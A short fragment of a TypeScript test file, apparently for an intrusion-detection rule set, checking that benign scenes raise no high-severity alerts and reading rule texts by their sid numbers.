    expect([...(await raised([run, read, removed(70)]))]).not.toContain(9100615);
  });

  it.each(Object.entries(BENIGN))('raises no alarm at %s', async (_, scene) => {
    const alarms = (await alertsOf(scene)).filter(({ alert }) => (alert.severity ?? 3) < 3);
    expect(alarms.map(({ alert }) => alert.signature)).toEqual([]);
  });
});

/** Each rule's text by its sid. */
function* ruleTexts(): Generator<readonly [number, string]> {
  for (const name of readdirSync(RULES).filter((file) => file.endsWith('.rules'))) {
    for (const line of readFileSync(join(RULES, name), 'utf8').split('\n')) {
      const sid = /\bsid:(\d+);/.exec(line)?.[1];
      if (sid !== undefined) yield [Number(sid), line];
    }
  }
}
